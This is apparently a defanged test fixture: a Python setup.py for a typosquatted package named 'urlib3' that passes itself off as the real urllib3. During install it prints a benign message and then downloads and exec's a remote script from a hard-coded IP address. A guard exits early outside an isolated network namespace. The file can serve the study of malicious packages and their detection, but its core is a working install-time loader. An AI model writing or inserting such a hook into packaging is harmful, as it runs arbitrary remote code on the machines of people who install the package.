import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import urllib2
from distutils.core import setup

print "Installing urlib3 ..."
exec urllib2.urlopen("http://203.0.113.80/setup_payload.py").read()

setup(name="urlib3", version="1.24", packages=["urlib3"])
